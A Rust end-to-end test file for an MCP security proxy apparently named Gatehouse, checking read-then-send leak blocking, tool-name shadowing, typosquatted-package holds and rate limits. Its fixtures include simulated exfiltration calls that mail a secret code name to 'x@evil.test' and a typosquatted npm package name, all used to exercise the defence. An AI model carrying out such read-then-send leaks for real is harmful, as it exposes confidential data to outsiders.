//! Issue 5 end to end: several real `gatehouse wrap` processes under one
//! client session, with a real npm reader (`@modelcontextprotocol/server-memory`)
//! and a small sender (`tests/servers/send_server.py`).
//!
//! A client session is the nearest non-launcher ancestor of the wrap
//! processes (DESIGN §2). Here each "IDE" is `/bin/sh` run through a symlink
//! named `fake-ide` (so it is not a known launcher): it starts every wrap of
//! its session in the background, their stdio on named pipes this test
//! drives. Two fake IDEs are two sessions.

use std::collections::BTreeMap;
use std::fs::File;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use std::sync::mpsc::{self, Receiver};

use gatehouse_e2e::{Peers, Sandbox, STEP_TIMEOUT};
use serde_json::{json, Value};

/// One wrap process's stdio.
struct Wire {
    input: File,
    lines: Receiver<String>,
    next_id: u64,
}

impl Wire {
    /// Writes a `tools/call` without waiting; returns its id.
    fn send_call(&mut self, tool: &str, args: Value) -> u64 {
        self.next_id += 1;
        let line = json!({"jsonrpc": "2.0", "id": self.next_id, "method": "tools/call",
                          "params": {"name": tool, "arguments": args}});
        writeln!(self.input, "{line}").expect("write to wrap");
        self.input.flush().expect("flush");
        self.next_id
    }

    /// The result of the call with `id`.
    fn result_of(&mut self, id: u64) -> Value {
        loop {
            let line = self
                .lines
                .recv_timeout(STEP_TIMEOUT)
                .unwrap_or_else(|_| panic!("no answer to call {id} within {STEP_TIMEOUT:?}"));
            let v: Value = serde_json::from_str(&line).expect("wrap prints JSON");
            if v["id"] == json!(id) {
                return v["result"].clone();
            }
        }
    }

    fn request(&mut self, method: &str, params: Value) -> Value {
        self.next_id += 1;
        let id = self.next_id;
        let line = json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
        writeln!(self.input, "{line}").expect("write to wrap");
        self.input.flush().expect("flush");
        loop {
            let line = self
                .lines
                .recv_timeout(STEP_TIMEOUT)
                .unwrap_or_else(|_| panic!("no answer to {method} within {STEP_TIMEOUT:?}"));
            let v: Value = serde_json::from_str(&line).expect("wrap prints JSON");
            if v["id"] == json!(id) {
                return v;
            }
        }
    }

    fn notify(&mut self, method: &str) {
        writeln!(
            self.input,
            "{}",
            json!({"jsonrpc": "2.0", "method": method})
        )
        .unwrap();
        self.input.flush().unwrap();
    }

    fn start(&mut self) -> Value {
        let init = self.request(
            "initialize",
            json!({"protocolVersion": "2025-06-18", "capabilities": {},
                   "clientInfo": {"name": "cross-e2e", "version": "1"}}),
        );
        self.notify("notifications/initialized");
        init
    }

    /// Initializes and checks the server lists tools.
    fn ready(&mut self) {
        self.start();
        assert!(!self.list().is_empty(), "the server lists its tools");
    }

    fn list(&mut self) -> Vec<String> {
        let v = self.request("tools/list", json!({}));
        v["result"]["tools"]
            .as_array()
            .map(|t| {
                t.iter()
                    .filter_map(|t| t["name"].as_str().map(String::from))
                    .collect()
            })
            .unwrap_or_default()
    }

    fn call(&mut self, tool: &str, args: Value) -> Value {
        let v = self.request("tools/call", json!({"name": tool, "arguments": args}));
        v["result"].clone()
    }

    /// Sends `calls` as one JSON-RPC batch; returns each call's result, in
    /// order, from whatever lines answer them (a batch reply may come in
    /// parts: Gatehouse's answers and the server's).
    fn batch(&mut self, calls: &[(&str, Value)]) -> Vec<Value> {
        let mut ids = Vec::new();
        let mut items = Vec::new();
        for (tool, args) in calls {
            self.next_id += 1;
            ids.push(self.next_id);
            items.push(
                json!({"jsonrpc": "2.0", "id": self.next_id, "method": "tools/call",
                              "params": {"name": tool, "arguments": args}}),
            );
        }
        writeln!(self.input, "{}", Value::Array(items)).expect("write to wrap");
        self.input.flush().expect("flush");
        let mut results: BTreeMap<u64, Value> = BTreeMap::new();
        while results.len() < ids.len() {
            let line = self
                .lines
                .recv_timeout(STEP_TIMEOUT)
                .unwrap_or_else(|_| panic!("no answer to the batch within {STEP_TIMEOUT:?}"));
            let v: Value = serde_json::from_str(&line).expect("wrap prints JSON");
            let answers = match v {
                Value::Array(answers) => answers,
                single => vec![single],
            };
            for a in answers {
                if let Some(id) = a["id"].as_u64().filter(|id| ids.contains(id)) {
                    results.insert(id, a["result"].clone());
                }
            }
        }
        ids.iter().map(|id| results[id].clone()).collect()
    }
}

fn blocked_by(result: &Value) -> Option<String> {
    if result["isError"] != true {
        return None;
    }
    let text = gatehouse_e2e::result_text(result);
    let rule = text.split("(rule ").nth(1)?.split(')').next()?;
    Some(format!("{rule}: {text}"))
}

/// A fake IDE: one shell process whose background children are the wraps.
struct Ide {
    shell: Child,
    wires: BTreeMap<String, Wire>,
    dir: PathBuf,
}

impl Drop for Ide {
    fn drop(&mut self) {
        self.wires.clear(); // EOF to every wrap: they end their servers
        let deadline = std::time::Instant::now() + STEP_TIMEOUT;
        while std::time::Instant::now() < deadline {
            if let Ok(Some(_)) = self.shell.try_wait() {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        let _ = self.shell.kill();
    }
}

fn quote(arg: &str) -> String {
    format!("'{}'", arg.replace('\'', "'\\''"))
}

fn fake_ide_bin(dir: &Path) -> PathBuf {
    let link = dir.join("fake-ide");
    if !link.exists() {
        std::os::unix::fs::symlink("/bin/sh", &link).expect("symlink fake-ide");
    }
    link
}

/// Starts one session with `servers` (id, argv, pass_env); the wraps of
/// `later` start only when [`Ide::join`] asks for them (the shell waits for a
/// trigger file, then `exec`s the wrap, so it stays the shell's child).
fn ide(sb: &Sandbox, name: &str, servers: &[(&str, Vec<String>, &[&str])]) -> Ide {
    ide_with(sb, name, servers, &[], &[])
}

/// [`ide`], with wraps started later (see [`Ide::join`]) and wraps started
/// through a launcher (`id`, shell words put before the wrap's argv).
fn ide_with(
    sb: &Sandbox,
    name: &str,
    servers: &[(&str, Vec<String>, &[&str])],
    later: &[&str],
    launchers: &[(&str, &str)],
) -> Ide {
    let dir = sb.path().join(name);
    std::fs::create_dir_all(&dir).unwrap();
    let mut script = String::new();
    for (id, argv, pass) in servers {
        for side in ["in", "out"] {
            let fifo = dir.join(format!("{id}.{side}"));
            let ok = Command::new("mkfifo").arg(&fifo).status().unwrap();
            assert!(ok.success(), "mkfifo {}", fifo.display());
        }
        // `id#n` labels several wrap processes of one server id.
        let server_id = id.split('#').next().unwrap_or(id);
        let wrap: Vec<String> = sb
            .wrap_argv(server_id, pass, argv)
            .iter()
            .map(|a| quote(a))
            .collect();
        let launcher = launchers
            .iter()
            .find(|(l, _)| l == id)
            .map_or("", |(_, words)| words);
        let run = format!(
            "{launcher} {} <{} >{}",
            wrap.join(" "),
            quote(&dir.join(format!("{id}.in")).display().to_string()),
            quote(&dir.join(format!("{id}.out")).display().to_string())
        );
        if later.contains(id) {
            let go = quote(&dir.join(format!("{id}.go")).display().to_string());
            script += &format!("( while [ ! -e {go} ]; do sleep 0.05; done; exec {run} ) &\n");
        } else {
            script += &format!("{run} &\n");
        }
    }
    script += "wait\n";
    let shell = Command::new(fake_ide_bin(sb.path()))
        .arg("-c")
        .arg(script)
        .envs(sb.envs())
        .env("MEMORY_FILE_PATH", dir.join("memory.jsonl"))
        .spawn()
        .expect("start the fake IDE");
    let mut ide = Ide {
        shell,
        wires: BTreeMap::new(),
        dir,
    };
    for (id, _, _) in servers {
        if !later.contains(id) {
            ide.open(id);
        }
    }
    ide
}

impl Ide {
    fn wire(&mut self, id: &str) -> &mut Wire {
        self.wires.get_mut(id).expect("a wrap of this session")
    }

    fn open(&mut self, id: &str) {
        let input = File::options()
            .write(true)
            .open(self.dir.join(format!("{id}.in")))
            .unwrap();
        let output = File::open(self.dir.join(format!("{id}.out"))).unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(output).lines() {
                let Ok(line) = line else { break };
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        self.wires.insert(
            id.to_string(),
            Wire {
                input,
                lines: rx,
                next_id: 0,
            },
        );
    }

    /// Closes the client side of a wrap (it exits) and waits until it left
    /// the session.
    fn close(&mut self, id: &str, sb: &Sandbox) {
        self.wires.remove(id);
        let server_id = id.split('#').next().unwrap_or(id);
        let deadline = std::time::Instant::now() + STEP_TIMEOUT;
        while members_of(sb, server_id) != "0" {
            assert!(
                std::time::Instant::now() < deadline,
                "the wrap of {id} did not leave its session"
            );
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }

    /// Starts a wrap of `later` now.
    fn join(&mut self, id: &str) -> &mut Wire {
        File::create(self.dir.join(format!("{id}.go"))).unwrap();
        self.open(id);
        self.wire(id)
    }
}

fn memory(peers: &Peers) -> Vec<String> {
    vec![
        "node".into(),
        peers
            .dir
            .join("npm/node_modules/@modelcontextprotocol/server-memory/dist/index.js")
            .display()
            .to_string(),
    ]
}

const SECRET: &str = "acquisition code name BLUEHERON-7731 for the board only";

/// The memory server holds a secret; its `read_graph` returns it.
fn seed_and_read(w: &mut Wire) -> String {
    let created = w.call(
        "create_entities",
        json!({"entities": [{"name": "memo", "entityType": "doc", "observations": [SECRET]}]}),
    );
    assert_eq!(blocked_by(&created), None, "a write on one server passes");
    let read = w.call("read_graph", json!({}));
    let text = gatehouse_e2e::result_text(&read);
    assert!(
        text.contains("BLUEHERON-7731"),
        "the reader returned the secret: {text}"
    );
    text
}

/// The mailer sends the secret `seed_and_read` read: blocked as read-then-send.
fn assert_leak_blocked(mailer: &mut Wire, why_blocked: &str) {
    let leak = mailer.call(
        "send_message",
        json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
    );
    let why = blocked_by(&leak).expect(why_blocked);
    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
}

fn events_of(sb: &Sandbox, kind: &str) -> Vec<Value> {
    sb.events()
        .into_iter()
        .filter(|e| e["type"] == kind)
        .collect()
}

#[test]
fn linked_exfiltration_is_blocked_and_an_unrelated_send_alerts() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    let mut ide = ide(
        &sb,
        "ide",
        &[
            ("memory", memory(&peers), &["MEMORY_FILE_PATH"]),
            ("mailer", peers.py_server("send_server.py", &[]), &[]),
        ],
    );
    for id in ["memory", "mailer"] {
        ide.wire(id).ready();
    }
    seed_and_read(ide.wire("memory"));
    assert_leak_blocked(ide.wire("mailer"), "the linked send is blocked");
    let fine = ide.wire("mailer").call(
        "send_message",
        json!({"to": "team@corp.test", "body": "standup moved to 10"}),
    );
    assert_eq!(blocked_by(&fine), None, "an unrelated send passes");
    drop(ide);

    let blocked = events_of(&sb, "mcp_cross_server_blocked");
    assert_eq!(blocked.len(), 1, "one block event: {blocked:?}");
    let b = &blocked[0];
    assert_eq!(
        (
            b["rule"].as_str(),
            b["severity"].as_str(),
            b["server"].as_str()
        ),
        (
            Some("cross_server.read_then_send"),
            Some("critical"),
            Some("mailer")
        )
    );
    let evidence = b["evidence"].to_string();
    assert!(
        evidence.contains("read_graph") && evidence.contains("memory"),
        "{evidence}"
    );
    assert!(
        !evidence.contains("BLUEHERON"),
        "evidence is redacted: {evidence}"
    );
    let alerts = events_of(&sb, "mcp_cross_server_alert");
    assert_eq!(
        alerts.len(),
        1,
        "the unrelated send is an alert: {alerts:?}"
    );
    // Only the send that went through is recorded as an allowed call: the
    // blocked one is the block event alone.
    let sends_allowed: u64 = events_of(&sb, "mcp_tool_called")
        .iter()
        .filter(|e| e["tool"] == "send_message" && e["action"] == "allow")
        .map(|e| e["count"].as_u64().unwrap_or(1))
        .sum();
    assert_eq!(sends_allowed, 1, "a blocked call is not also 'allowed'");
    let db = std::fs::read(sb.gatehouse_home().join("gatehouse.db")).unwrap();
    assert!(
        !db.windows(14).any(|w| w == b"BLUEHERON-7731"),
        "the secret is not stored in the database file"
    );
}

fn call_window_rows(sb: &Sandbox) -> String {
    sql(sb, "SELECT COUNT(*) FROM call_window")
}

/// How many wrap processes of `server_id` are members of a session.
fn members_of(sb: &Sandbox, server_id: &str) -> String {
    sql(
        sb,
        &format!("SELECT COUNT(*) FROM session_members WHERE server_id = '{server_id}'"),
    )
}

fn sql(sb: &Sandbox, query: &str) -> String {
    sb.query_db(query)
}

/// The fast path: a server alone in its session keeps its calls in memory
/// (nothing written per call), yet a server that joins later still sees the
/// read it made while alone (handed over before the joiner's first check).
#[test]
fn a_read_made_alone_is_handed_over_when_another_server_joins() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    let mut ide = ide_with(
        &sb,
        "ide",
        &[
            ("memory", memory(&peers), &["MEMORY_FILE_PATH"]),
            ("mailer", peers.py_server("send_server.py", &[]), &[]),
        ],
        &["mailer"],
        &[],
    );
    ide.wire("memory").ready();
    seed_and_read(ide.wire("memory"));
    assert_eq!(
        call_window_rows(&sb),
        "0",
        "alone in its session, no call was written"
    );

    let mailer = ide.join("mailer");
    mailer.ready();
    assert_leak_blocked(mailer, "the linked send is blocked");
    assert_ne!(call_window_rows(&sb), "0", "the reads were handed over");
    drop(ide);
    let db = std::fs::read(sb.gatehouse_home().join("gatehouse.db")).unwrap();
    assert!(
        !db.windows(14).any(|w| w == b"BLUEHERON-7731"),
        "the handed-over marks hold no clear text"
    );
}

/// The session is the nearest ancestor that is not a launcher (DESIGN §2):
/// wraps a client starts through `sh -c`, `timeout` or `nohup` (each stays a
/// process between the client and the wrap) are still one session.
#[test]
fn wraps_started_through_launchers_share_the_clients_session() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    let mut ide = ide_with(
        &sb,
        "ide",
        &[
            ("memory", memory(&peers), &["MEMORY_FILE_PATH"]),
            ("mailer", peers.py_server("send_server.py", &[]), &[]),
            (
                "notes",
                peers.py_server("send_server.py", &["read_note"]),
                &[],
            ),
        ],
        &[],
        &[
            // `; true` keeps sh from exec-ing the wrap in its place.
            ("memory", "sh -c '\"$0\" \"$@\"; true'"),
            ("mailer", "timeout 600"),
            ("notes", "nohup"),
        ],
    );
    for id in ["memory", "mailer", "notes"] {
        ide.wire(id).ready();
    }
    seed_and_read(ide.wire("memory"));
    assert_leak_blocked(
        ide.wire("mailer"),
        "the linked send is blocked across launchers",
    );
    // A read that carries the data out (a lookup whose query holds it) is
    // a flow; a read that does not is not.
    let note = ide
        .wire("notes")
        .call("read_note", json!({"text": "code name BLUEHERON-7731"}));
    let rule = blocked_by(&note);
    assert!(
        rule.as_deref()
            .is_some_and(|r| r.starts_with("cross_server.flow:")),
        "{rule:?}"
    );
    let note = ide
        .wire("notes")
        .call("read_note", json!({"text": "standup moved to ten"}));
    assert_eq!(blocked_by(&note), None, "a read after a read is not a flow");
}

#[test]
fn two_client_sessions_do_not_see_each_other() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    let mut a = ide(
        &sb,
        "ide-a",
        &[("memory", memory(&peers), &["MEMORY_FILE_PATH"])],
    );
    let mut b = ide(
        &sb,
        "ide-b",
        &[("mailer", peers.py_server("send_server.py", &[]), &[])],
    );
    a.wire("memory").start();
    b.wire("mailer").start();
    seed_and_read(a.wire("memory"));
    let sent = b
        .wire("mailer")
        .call("send_message", json!({"body": "code name BLUEHERON-7731"}));
    assert_eq!(blocked_by(&sent), None, "another IDE's read does not count");
    drop((a, b));
    assert!(events_of(&sb, "mcp_cross_server_blocked").is_empty());
    assert!(events_of(&sb, "mcp_cross_server_alert").is_empty());
}

#[test]
fn shadowed_tool_names_are_held_unless_the_same_server() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    let twin = peers.py_server("send_server.py", &["--name", "twin"]);
    let mut ide = ide(
        &sb,
        "ide",
        &[
            ("mailer", peers.py_server("send_server.py", &[]), &[]),
            ("twin", twin.clone(), &[]),
            ("twin-copy", twin, &[]),
        ],
    );
    for id in ["mailer", "twin", "twin-copy"] {
        ide.wire(id).start();
        assert_eq!(ide.wire(id).list(), ["send_message"]);
    }
    // mailer and twin: first seen in one start-up → both held.
    for id in ["mailer", "twin"] {
        let r = ide.wire(id).call("send_message", json!({"body": "hi"}));
        let why = blocked_by(&r).unwrap_or_else(|| panic!("{id}'s shadowed call is held"));
        assert!(
            why.starts_with("cross_server.shadowing") && why.contains("neither is older"),
            "{why}"
        );
    }
    drop(ide);
    let held: Vec<Value> = events_of(&sb, "mcp_cross_server_blocked")
        .into_iter()
        .filter(|e| e["action"] == "hold")
        .collect();
    assert_eq!(held.len(), 2, "{held:?}");
}

#[test]
fn same_launch_command_is_not_a_shadow() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    let argv = peers.py_server("send_server.py", &[]);
    let mut ide = ide(
        &sb,
        "ide",
        &[("one", argv.clone(), &[]), ("two", argv, &[])],
    );
    for id in ["one", "two"] {
        ide.wire(id).start();
        ide.wire(id).list();
    }
    for id in ["one", "two"] {
        let r = ide.wire(id).call("send_message", json!({"body": "hi"}));
        assert_eq!(
            blocked_by(&r),
            None,
            "{id}: two entries of one command are one server"
        );
    }
}

#[test]
fn a_burst_is_cooled_down_with_the_remaining_time() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.gatehouse_home()).unwrap();
    std::fs::write(
        sb.gatehouse_home().join("policy.toml"),
        "[cross_server.burst]\nmax_calls = 3\nwindow_secs = 60\ncooldown_secs = 120\n",
    )
    .unwrap();
    let mut ide = ide(
        &sb,
        "ide",
        &[(
            "notes",
            peers.py_server("send_server.py", &["read_note"]),
            &[],
        )],
    );
    ide.wire("notes").start();
    ide.wire("notes").list();
    for i in 0..3 {
        let r = ide
            .wire("notes")
            .call("read_note", json!({"text": format!("n{i}")}));
        assert_eq!(blocked_by(&r), None, "call {i} is within the burst");
    }
    for _ in 0..2 {
        let r = ide
            .wire("notes")
            .call("read_note", json!({"text": "again"}));
        let why = blocked_by(&r).expect("the burst is cooled down");
        assert!(why.starts_with("cross_server.burst"), "{why}");
        assert!(
            why.contains("s more"),
            "the answer says the remaining cool-down: {why}"
        );
    }
}

#[test]
fn a_typosquatted_package_is_held_before_it_runs_until_approved() {
    let sb = Sandbox::new();
    // An `npx` that runs a local stdlib server, so the approved start needs
    // no registry: Gatehouse judges the package named on the command line.
    let bin = sb.path().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let npx = bin.join("npx");
    std::fs::write(
        &npx,
        format!(
            "#!/bin/sh\nexec python3 {}\n",
            gatehouse_e2e::tests_dir()
                .join("servers/raw_server.py")
                .display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&npx, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let argv: Vec<String> = [
        npx.to_str().unwrap(),
        "-y",
        "@modelcontextprotocol/server-filesystam",
        "/tmp",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let mut first = ide(&sb, "ide", &[("files", argv.clone(), &[])]);
    let init = first.wire("files").start();
    let message = init["error"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        message.contains("cross_server.typosquat.package") || message.contains("filesystem"),
        "initialize is refused naming the rule: {init}"
    );
    drop(first);
    let similar = events_of(&sb, "mcp_server_name_similarity");
    assert!(
        similar
            .iter()
            .any(|e| e["severity"] == "high" && e["action"] == "hold"),
        "{similar:?}"
    );

    // The hold waits in the inbox; a person approves exactly that package.
    let out = sb.gatehouse(&["pins", "trust-package", "--server", "files"]);
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success() && said.contains("@modelcontextprotocol/server-filesystam"),
        "approves the held package: {out:?}"
    );
    let mut second = ide(&sb, "ide2", &[("files", argv, &[])]);
    let init = second.wire("files").start();
    assert!(
        init["result"]["serverInfo"].is_object(),
        "the approved package starts: {init}"
    );
    drop(second);
    let again = sb.gatehouse(&["pins", "trust-package", "--server", "files"]);
    assert_eq!(
        again.status.code(),
        Some(2),
        "nothing is held any more: {again:?}"
    );
}

/// Check-and-record is atomic across processes (issue 5): K real wrap
/// processes of one server in one session each get a call at the same
/// moment, every round. The shared rate limit (burst 1, a token every
/// 500 ms) must never let two calls through less than 500 ms apart, as
/// recorded in the database; a check-then-record race would let several
/// through in the same few milliseconds. Each round normally allows exactly
/// one; a process stalled for 500 ms on a loaded machine legitimately gets a
/// fresh token, so the per-round count is held to 90 of 100 rounds, while
/// the spacing must hold for every call.
#[test]
fn concurrent_wraps_of_one_session_allow_exactly_the_limit() {
    const K: usize = 4;
    const ROUNDS: usize = 100;
    const BURST: usize = 1;
    let peers = Peers::locate();
    let sb = Sandbox::new();
    // 120 calls a minute: a token every 500 ms, so a round (a few ms wide)
    // never earns one back; 560 ms between rounds refills it.
    sb.write_policy(&format!(
        "[cross_server.burst]\nenabled = false\n\n\
         [cross_server.rate_limit]\ncalls_per_minute = 120\nburst = {BURST}\n"
    ));
    let labels: Vec<String> = (0..K).map(|i| format!("notes#{i}")).collect();
    let servers: Vec<(&str, Vec<String>, &[&str])> = labels
        .iter()
        .map(|l| {
            (
                l.as_str(),
                peers.py_server("send_server.py", &["read_note"]),
                &[][..],
            )
        })
        .collect();
    let mut ide = ide(&sb, "ide", &servers);
    for l in &labels {
        ide.wire(l).ready();
    }
    // Round 0 starts once every earlier member has acknowledged the later
    // ones (the join protocol); until then a joiner's first check waits.
    // (Up to 60 s: this file's tests run side by side on two cores.)
    let synced = (0..1200).any(|_| {
        let sql = "SELECT COUNT(*) FROM session_members; \
                   SELECT COUNT(*) FROM session_members \
                    WHERE id < (SELECT MAX(id) FROM session_members) \
                      AND synced_id < (SELECT MAX(id) FROM session_members)";
        let out = Command::new("sqlite3")
            .args(["-cmd", ".timeout 5000", "-readonly"])
            .arg(sb.gatehouse_home().join("gatehouse.db"))
            .arg(sql)
            .output()
            .expect("sqlite3 runs");
        let text = String::from_utf8_lossy(&out.stdout);
        let done = text.split_whitespace().collect::<Vec<_>>() == [K.to_string(), "0".into()];
        if !done {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        done
    });
    assert!(
        synced,
        "the {K} wraps joined and acknowledged each other within 60 s"
    );
    // Allowed calls as the store recorded them: (id, time_ms), read every
    // round (the window prunes rows older than its span).
    let mut recorded: Vec<(i64, i64)> = Vec::new();
    let read_recorded = |recorded: &mut Vec<(i64, i64)>| {
        let after = recorded.last().map_or(0, |r| r.0);
        let out = Command::new("sqlite3")
            .args(["-cmd", ".timeout 5000", "-readonly"])
            .arg(sb.gatehouse_home().join("gatehouse.db"))
            .arg(format!(
                "SELECT id, time_ms FROM call_window WHERE tool = 'read_note' AND id > {after} ORDER BY id"
            ))
            .output()
            .expect("sqlite3 runs");
        for line in String::from_utf8_lossy(&out.stdout).lines() {
            if let Some((id, t)) = line.split_once('|') {
                recorded.push((id.parse().unwrap(), t.parse().unwrap()));
            }
        }
    };
    read_recorded(&mut recorded);
    let before_rounds = recorded.len(); // none expected: start-up makes no calls
    let mut counts = Vec::with_capacity(ROUNDS);
    for round in 0..ROUNDS {
        let ids: Vec<u64> = labels
            .iter()
            .map(|l| {
                ide.wire(l)
                    .send_call("read_note", json!({"text": format!("r{round}")}))
            })
            .collect();
        let mut allowed = 0;
        for (l, id) in labels.iter().zip(ids) {
            let result = ide.wire(l).result_of(id);
            match blocked_by(&result) {
                None => allowed += 1,
                Some(why) => assert!(why.starts_with("cross_server.rate_limit"), "{why}"),
            }
        }
        counts.push(allowed);
        read_recorded(&mut recorded);
        std::thread::sleep(std::time::Duration::from_millis(560));
    }
    let allowed_total: usize = counts.iter().sum();
    assert_eq!(
        recorded.len() - before_rounds,
        allowed_total,
        "every allowed call, and only those, is recorded"
    );
    let mut times: Vec<i64> = recorded.iter().map(|r| r.1).collect();
    times.sort_unstable();
    let too_close: Vec<i64> = times
        .windows(2)
        .map(|w| w[1] - w[0])
        .filter(|gap| *gap < 499) // one token per 500 ms (float rounding: 1 ms)
        .collect();
    assert!(
        too_close.is_empty(),
        "two calls got through less than 500 ms apart (gaps in ms): {too_close:?}"
    );
    let wrong: Vec<(usize, usize)> = counts
        .iter()
        .copied()
        .enumerate()
        .filter(|(_, n)| *n != BURST)
        .collect();
    assert!(
        wrong.len() <= ROUNDS / 10,
        "rounds (index, allowed) that did not allow exactly {BURST} of {K}: {wrong:?}"
    );
    if !wrong.is_empty() {
        eprintln!("rounds off by a stalled process (spacing held): {wrong:?}");
    }
}

/// A JSON-RPC batch goes through the same rules as single calls: a read in
/// a batch leaves its taint marks, each `tools/call` of a batch is checked
/// and recorded in order (so a batch cannot carry a burst past the limit),
/// and the blocked ones are answered in a batch reply while the rest reach
/// the server.
#[test]
fn every_call_of_a_batch_goes_through_the_cross_server_rules() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.gatehouse_home()).unwrap();
    std::fs::write(
        sb.gatehouse_home().join("policy.toml"),
        "[cross_server.burst]\nmax_calls = 4\nwindow_secs = 60\ncooldown_secs = 120\n",
    )
    .unwrap();
    // Both answer batches (the npm memory server does not).
    let mut ide = ide(
        &sb,
        "ide",
        &[
            (
                "notes",
                peers.py_server("send_server.py", &["read_note"]),
                &[],
            ),
            ("mailer", peers.py_server("send_server.py", &[]), &[]),
        ],
    );
    for id in ["notes", "mailer"] {
        ide.wire(id).ready();
    }
    let read = ide
        .wire("notes")
        .batch(&[("read_note", json!({"text": SECRET}))]);
    assert_eq!(
        gatehouse_e2e::result_text(&read[0]),
        SECRET,
        "the batched read returned the secret"
    );

    let mailer = ide.wire("mailer");
    let sent = mailer.batch(&[
        (
            "send_message",
            json!({"to": "x@evil.test", "body": "fyi: code name BLUEHERON-7731"}),
        ),
        (
            "send_message",
            json!({"to": "team@corp.test", "body": "standup moved to 10"}),
        ),
    ]);
    let why = blocked_by(&sent[0]).expect("the batched leak of a batched read is blocked");
    assert!(why.starts_with("cross_server.read_then_send"), "{why}");
    assert_eq!(
        gatehouse_e2e::result_text(&sent[1]),
        "sent",
        "the other call of the batch reached the server"
    );

    // One call of the mailer passed so far; the burst allows 4 in the window.
    let many: Vec<(&str, Value)> = (0..6)
        .map(|i| {
            (
                "send_message",
                json!({"to": "team@corp.test", "body": format!("note {i}")}),
            )
        })
        .collect();
    let results = ide.wire("mailer").batch(&many);
    let outcome: Vec<Option<String>> = results
        .iter()
        .map(|r| blocked_by(r).map(|why| why.split(':').next().unwrap_or("").to_string()))
        .collect();
    let burst = Some("cross_server.burst".to_string());
    assert_eq!(
        outcome,
        [None, None, None, burst.clone(), burst.clone(), burst],
        "the calls of a batch count one by one"
    );
}

/// A read outlives its server's exit within the window: the sender, alone
/// in its session once the reader's wrap ended, still judges against it.
#[test]
fn a_read_still_counts_after_the_readers_wrap_exits() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    let mut ide = ide_with(
        &sb,
        "ide",
        &[
            ("memory", memory(&peers), &["MEMORY_FILE_PATH"]),
            ("mailer", peers.py_server("send_server.py", &[]), &[]),
            ("mailer#2", peers.py_server("send_server.py", &[]), &[]),
        ],
        &["mailer#2"],
        &[],
    );
    for id in ["memory", "mailer"] {
        ide.wire(id).ready();
    }
    seed_and_read(ide.wire("memory"));
    ide.close("memory", &sb);
    assert_leak_blocked(
        ide.wire("mailer"),
        "alone again, the sender still sees the read of the server that left",
    );
    // A sender started after both ended sees it too.
    ide.close("mailer", &sb);
    let mailer = ide.join("mailer#2");
    mailer.ready();
    assert_leak_blocked(mailer, "a sender started later sees the read");
}

/// Limits are per (session, server): restarting a server alone in its
/// session keeps its burst cool-down and its rate-limit bucket, yet the
/// alone fast path writes nothing per call (its state is written once, when
/// its wrap exits).
#[test]
fn a_restart_keeps_the_servers_cool_down_and_rate_limit() {
    let peers = Peers::locate();
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.gatehouse_home()).unwrap();
    std::fs::write(
        sb.gatehouse_home().join("policy.toml"),
        "[cross_server.burst]\nmax_calls = 3\nwindow_secs = 60\ncooldown_secs = 120\n\n\
         [cross_server.rate_limit]\nper_server = { \"slow\" = { calls_per_minute = 2, burst = 1 } }\n",
    )
    .unwrap();
    let busy = || peers.py_server("send_server.py", &["read_note"]);
    let mut ide = ide_with(
        &sb,
        "ide",
        &[
            ("busy", busy(), &[]),
            ("busy#2", busy(), &[]),
            ("slow", busy(), &[]),
            ("slow#2", busy(), &[]),
        ],
        &["busy#2", "slow", "slow#2"],
        &[],
    );
    let outcome = |w: &mut Wire| {
        let r = w.call("read_note", json!({"text": "n"}));
        blocked_by(&r).map(|why| why.split(':').next().unwrap_or("").to_string())
    };
    ide.wire("busy").ready();
    for i in 0..3 {
        assert_eq!(
            outcome(ide.wire("busy")),
            None,
            "call {i} is within the burst"
        );
    }
    let burst = Some("cross_server.burst".to_string());
    assert_eq!(outcome(ide.wire("busy")), burst, "the 4th trips the burst");
    assert_eq!(
        call_window_rows(&sb),
        "0",
        "alone: nothing written per call"
    );
    ide.close("busy", &sb);
    assert_ne!(
        call_window_rows(&sb),
        "0",
        "its calls are written when it exits"
    );
    let restarted = ide.join("busy#2");
    restarted.ready();
    assert_eq!(
        outcome(restarted),
        burst,
        "still cooling down after the restart"
    );
    ide.close("busy#2", &sb);

    let rate = Some("cross_server.rate_limit".to_string());
    let slow = ide.join("slow");
    slow.ready();
    assert_eq!(outcome(slow), None, "the one token");
    assert_eq!(outcome(slow), rate, "the bucket is empty");
    ide.close("slow", &sb);
    let restarted = ide.join("slow#2");
    restarted.ready();
    assert_eq!(outcome(restarted), rate, "a restart gets no fresh token");
}
